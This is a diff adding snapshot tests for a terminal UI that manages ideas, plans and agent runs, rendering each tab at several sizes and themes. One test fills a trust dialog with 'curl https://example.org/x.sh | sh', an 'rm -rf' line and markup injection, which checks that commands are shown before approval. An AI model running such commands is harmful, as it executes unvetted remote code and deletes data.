@@ -1,0 +1,183 @@
+"""Stories in pictures: what a person sees on every tab, at three sizes."""
+
+import asyncio
+from collections.abc import Callable
+from dataclasses import replace
+from datetime import timedelta
+from typing import Any
+
+import pytest
+from textual.pilot import Pilot
+from textual.widgets import TextArea
+
+from cc4tui.domain.run import TaskRunState
+from cc4tui.ports import TrustQuestion
+from cc4tui.screens.app import CommandCenterApp
+from cc4tui.screens.dialogs.choice import ChoiceDialog
+from cc4tui.screens.options import StartOptions, Tab
+from cc4tui.screens.widgets.row_list import RowList
+
+
+SIZES = [
+    pytest.param((80, 24), id="80x24"),
+    pytest.param((120, 36), id="120x36"),
+    pytest.param((200, 50), id="200x50"),
+]
+Story = Callable[..., None]
+
+
+@pytest.fixture
+def story(
+    snap_compare: Any,
+    fill: Callable[[], Any],
+    empty_center: Any,
+    clock: Any,
+    until: Any,
+    request: pytest.FixtureRequest,
+) -> Story:
+    """Plays a story without a terminal and compares the last picture."""
+
+    def play(
+        tab: Tab,
+        size: tuple[int, int],
+        *keys: str,
+        empty: bool = False,
+        theme: str = "cc4-dark",
+        prepare: Callable[[Any], None] | None = None,
+        act: Callable[[Pilot[None]], Any] | None = None,
+    ) -> None:
+        center = empty_center if empty else asyncio.run(fill())
+        if prepare is not None:
+            prepare(center)
+        app = CommandCenterApp(center, StartOptions(tab=tab, clock=clock, theme=theme))
+        app.title = request.node.name
+
+        async def before(pilot: Pilot[None]) -> None:
+            if not empty and tab is not Tab.EXECUTION:
+                await until(pilot, lambda: any(rows.items for rows in app.query(RowList)))
+            for key in keys:
+                await pilot.press(key)
+                await pilot.pause()
+            if act is not None:
+                await act(pilot)
+            for area in app.screen.query(TextArea):
+                area.cursor_blink = False
+            await pilot.pause()
+
+        assert snap_compare(app, terminal_size=size, run_before=before)
+
+    return play
+
+
+@pytest.mark.parametrize("size", SIZES)
+@pytest.mark.parametrize("tab", [Tab.IDEAS, Tab.PLANS, Tab.MEMORY])
+def test_every_tab_at_every_size(story: Story, tab: Tab, size: tuple[int, int]) -> None:
+    story(tab, size)
+
+
+@pytest.mark.parametrize("tab", list(Tab))
+def test_every_empty_tab_teaches(story: Story, tab: Tab) -> None:
+    story(tab, (80, 24), empty=True)
+
+
+@pytest.mark.parametrize("size", SIZES)
+def test_the_selected_task_stands_beside_the_tree_where_there_is_room(
+    story: Story, size: tuple[int, int]
+) -> None:
+    story(Tab.PLANS, size, "down", "down")
+
+
+def test_a_thought_is_typed_above_whatever_is_shown(story: Story) -> None:
+    async def write(pilot: Pilot[None]) -> None:
+        pilot.app.query_one(TextArea).load_text("rate-limit the download too #api !high")
+        await pilot.pause()
+
+    story(Tab.PLANS, (80, 24), "i", act=write)
+
+
+def test_ideas_are_marked_and_filtered(story: Story) -> None:
+    story(Tab.IDEAS, (80, 24), "space", "slash", "u", "p")
+
+
+def test_past_runs_are_listed(story: Story) -> None:
+    story(Tab.MEMORY, (120, 36), "right", "down")
+
+
+def test_the_run_dialog(story: Story) -> None:
+    story(Tab.PLANS, (80, 24), "space", "r", "right", "down")
+
+
+def test_commands_are_shown_before_they_are_trusted(story: Story, until: Any) -> None:
+    def distrust(center: Any) -> None:
+        commands = ("make install", "curl https://example.org/x.sh | sh\nrm -rf build # [b]x[/]")
+        center.question = TrustQuestion("k", commands)
+
+    async def shown(pilot: Pilot[None]) -> None:
+        await until(pilot, lambda: isinstance(pilot.app.screen, ChoiceDialog))
+
+    story(Tab.PLANS, (80, 24), "r", "enter", prepare=distrust, act=shown)
+
+
+def test_a_task_whole(story: Story) -> None:
+    story(Tab.PLANS, (80, 24), "down", "down", "enter")
+
+
+def test_the_plan_an_idea_goes_into(story: Story) -> None:
+    story(Tab.IDEAS, (80, 24), "p")
+
+
+def test_the_keys_of_a_screen(story: Story) -> None:
+    story(Tab.IDEAS, (80, 24), "question_mark")
+
+
+def test_the_palette(story: Story) -> None:
+    story(Tab.PLANS, (120, 36), "ctrl+p")
+
+
+def test_quitting_asks_while_agents_run(story: Story, make_run: Any, until: Any) -> None:
+    def run(center: Any) -> None:
+        asyncio.run(center.journal.create_run(make_run("r-9", "plans/api.md"), []))
+
+    async def shown(pilot: Pilot[None]) -> None:
+        await until(pilot, lambda: isinstance(pilot.app.screen, ChoiceDialog))
+
+    story(Tab.PLANS, (80, 24), "q", prepare=run, act=shown)
+
+
+@pytest.mark.parametrize("size", SIZES)
+def test_the_tree_is_live_during_a_run(story: Story, make_run: Any, size: tuple[int, int]) -> None:
+    states = {
+        "1.1": TaskRunState.LANDED,
+        "1.2": TaskRunState.MERGED,
+        "1.3": TaskRunState.VERIFYING,
+        "2.1": TaskRunState.RUNNING,
+        "2.2": TaskRunState.BLOCKED,
+        "2.3": TaskRunState.FAILED,
+    }
+
+    def run(center: Any) -> None:
+        rows = [replace(row, run="r-9") for row in center.journal.all_tasks["r-8"]]
+        rows = [replace(row, state=states[row.task], agent="claude") for row in rows]
+        asyncio.run(center.journal.create_run(make_run("r-9", "plans/api.md"), rows))
+
+    story(Tab.PLANS, size, prepare=run)
+
+
+@pytest.mark.parametrize("theme", ["cc4-light", "cc4-terminal"])
+@pytest.mark.parametrize("tab", [Tab.IDEAS, Tab.PLANS])
+def test_other_colours(story: Story, tab: Tab, theme: str) -> None:
+    story(tab, (120, 36), theme=theme)
+
+
+def test_a_terminal_without_unicode(story: Story, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("CC4TUI_ASCII", "1")
+    story(Tab.PLANS, (80, 24), "space")
+
+
+def test_wide_characters_and_long_titles(story: Story) -> None:
+    def fill(center: Any) -> None:
+        center.notebook.age = timedelta(minutes=1)
+        asyncio.run(center.notebook.add_idea("日本語のタイトル " * 12, ["とても長い"], "urgent"))
+        asyncio.run(center.notebook.add_idea("word " * 40, ["a", "b", "c", "d", "e", "f"]))
+
+    story(Tab.IDEAS, (80, 24), prepare=fill)
